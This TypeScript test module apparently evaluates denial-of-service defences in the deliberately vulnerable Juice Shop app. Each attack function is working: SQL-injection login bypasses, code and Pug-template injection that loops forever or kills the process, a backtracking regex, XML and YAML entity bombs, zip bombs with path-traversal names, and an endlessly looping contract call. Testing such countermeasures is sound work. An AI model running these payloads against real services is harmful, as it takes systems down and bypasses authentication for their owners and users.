import { zipSync } from 'fflate';
import { createClient } from '../../support/client.ts';
import { multipartBody, multipartType, type Part } from '../../support/multipart.ts';
import type { Stall } from './stall.ts';

/** Attempts without a countermeasure of their own: code, documents and contracts that run where they may run forever. */

const evaluatorEnds = 'a process of its own, ended at its deadline';
const evaluatorHeap = 'a process of its own, with a heap of its own';
const interpreter = 'an interpreter without timers, in a process of its own';
const readerLimits = 'readers with a limit on what references expand to';

const loop = '(()=>{for(;;);})()';

const names = (count: number) => Array.from({ length: count }, (_, index) => index);

/** Sends an expression with an order. */
async function orderLines(url: string, orderLinesData: string): Promise<void> {
  const client = createClient(url);
  const token = await client.login("jim@juice-sh.op'--", 'x');
  await client.post('/b2b/v2/orders', { cid: 'JS0815DE', orderLinesData }, { token });
}

/** Sets a name, and requests the profile page that it changes. */
async function profileNamed(url: string, name: string): Promise<void> {
  const client = createClient(url);
  const cookie = await client.login("bender@juice-sh.op'--", 'x');
  const body = `username=${encodeURIComponent(name)}`;
  const headers = { 'content-type': 'application/x-www-form-urlencoded' };
  await client.post('/profile', body, { cookie, headers });
  try {
    await client.get('/profile', { cookie });
  } finally {
    await client.post('/profile', 'username=Bender', { cookie, headers });
  }
}

async function upload(url: string, part: Omit<Part, 'field'>): Promise<void> {
  const body = multipartBody({ field: 'file', ...part });
  await createClient(url).post('/file-upload', body, { headers: { 'content-type': multipartType } });
}

const doubling = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "lol">${names(9)
  .map((index) => `<!ENTITY a${index + 1} "${`&a${index};`.repeat(10)}">`)
  .join('')}]><x>&a9;</x>`;

const longAndOften = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "${'x'.repeat(60_000)}">]><x>${'&a;'.repeat(6000)}</x>`;

const aliases = names(9)
  .map((index) => `a${index}: &a${index} [${Array(10).fill(index === 0 ? 'lol' : `*a${index - 1}`)}]`)
  .join('\n');

/** A contract that jumps back to its beginning until its gas is used up: JUMPDEST, PUSH1 0, JUMP. */
const endlessContract = { data: '0x5b600056', gas: '0xffffffffffff' };

export const moreStalls: readonly Stall[] = [
  {
    cause: 'an endless queue',
    through: 'review condition',
    title: 'an endless loop',
    measure: evaluatorEnds,
    harm: 'silence',
    isInHoles: true,
    attack: async ({ url }) => {
      await createClient(url).get(`/rest/products/${encodeURIComponent(loop)}/reviews`);
    },
  },
  {
    cause: 'an endless queue',
    through: 'order lines',
    title: 'lists that grow for as long as they may',
    measure: evaluatorHeap,
    harm: 'memory',
    controlScale: 0.25,
    attack: ({ url }) => orderLines(url, '(()=>{for(let a=[];;)a.push(new Array(1e5).fill(7))})()'),
  },
  {
    cause: 'an endless queue',
    through: 'order lines',
    title: 'a search in a list of four thousand million places',
    measure: evaluatorEnds,
    harm: 'silence',
    attack: ({ url }) => orderLines(url, '(()=>{const a=[];a.length=4e9;return a.indexOf(1)})()'),
  },
  {
    cause: 'an uncaught error',
    through: 'order lines',
    title: 'the end of the process',
    measure: interpreter,
    harm: 'death',
    isInHoles: true,
    attack: ({ url }) => orderLines(url, 'process.exit(1)'),
  },
  {
    cause: 'an uncaught error',
    through: 'order lines',
    title: 'an error that is thrown later',
    measure: interpreter,
    harm: 'death',
    attack: ({ url }) => orderLines(url, "setTimeout(()=>{throw new Error('later')},10)"),
  },
  {
    cause: 'an uncaught error',
    through: 'order lines',
    title: 'a rejected promise that nobody awaits',
    measure: interpreter,
    harm: 'death',
    attack: ({ url }) => orderLines(url, "void Promise.reject(new Error('nobody waits'))"),
  },
  {
    cause: 'an endless queue',
    through: 'user name (Pug)',
    title: 'an endless loop in an expression',
    measure: evaluatorEnds,
    harm: 'silence',
    isInHoles: true,
    attack: ({ url }) => profileNamed(url, `#{${loop}}`),
  },
  {
    cause: 'an endless queue',
    through: 'user name (Pug)',
    title: 'a list of long strings',
    measure: evaluatorHeap,
    harm: 'memory',
    controlScale: 0.25,
    attack: ({ url }) => profileNamed(url, "#{(()=>{for(let a=[];;)a.push(Array(1e4).fill('x').join()+a.length)})()}"),
  },
  {
    cause: 'a pattern over long text',
    through: 'review selector',
    title: 'a regular expression that backtracks forever',
    measure: evaluatorEnds,
    harm: 'silence',
    isInHoles: true,
    attack: async ({ url }) => {
      const client = createClient(url);
      const token = await client.login("jim@juice-sh.op'--", 'x');
      await client.patch('/rest/products/reviews', { id: { $regex: '^(((\\w*)*)*)*!$' }, message: 'x' }, { token });
    },
  },
  {
    cause: 'a pattern over long text',
    through: 'XML upload',
    title: 'entities of entities, ten of each, nine deep',
    measure: readerLimits,
    harm: 'silence',
    isInHoles: true,
    attack: ({ url }) => upload(url, { fileName: 'a.xml', type: 'text/xml', content: doubling }),
  },
  {
    cause: 'a pattern over long text',
    through: 'XML upload',
    title: 'one long entity, six thousand times',
    measure: readerLimits,
    harm: 'memory',
    controlScale: 0.5,
    attack: ({ url }) => upload(url, { fileName: 'a.xml', type: 'text/xml', content: longAndOften }),
  },
  {
    cause: 'a pattern over long text',
    through: 'YAML upload',
    title: 'aliases of aliases',
    measure: readerLimits,
    harm: 'memory',
    controlScale: 0.25,
    attack: ({ url }) => upload(url, { fileName: 'a.yml', type: 'text/yaml', content: aliases }),
  },
  {
    cause: 'a store that grows',
    through: 'archive upload',
    title: 'archives of zeros, two that fit and eight that become 60 MiB each',
    measure: 'unpacking one at a time, piece by piece, up to a budget',
    harm: 'silence',
    controlScale: 0.5,
    fills: true,
    attack: async ({ url, scale }) => {
      const archive = (mebibytes: number) => ({
        fileName: 'a.zip',
        type: 'application/zip',
        content: Buffer.from(zipSync({ '../../ftp/nothing.md': Buffer.alloc(mebibytes * 1024 * 1024) }, { level: 9 })),
      });
      const [fitting, heavy] = [archive(20), archive(60)];
      const archives = [...Array(2 * scale).fill(fitting), ...Array(8 * scale).fill(heavy)];
      await Promise.all(archives.map((each) => upload(url, each)));
    },
  },
  {
    cause: 'an endless queue',
    through: 'POST /rpc',
    title: 'contracts that loop until their gas is used up',
    measure: 'a process of its own, ended at its deadline, and a limit on gas',
    harm: 'silence',
    attack: async ({ url, scale }) => {
      const call = { jsonrpc: '2.0', method: 'eth_call', params: [endlessContract, 'latest'] };
      await Promise.all(names(6 * scale).map((id) => createClient(url).post('/rpc', { ...call, id })));
    },
  },
];
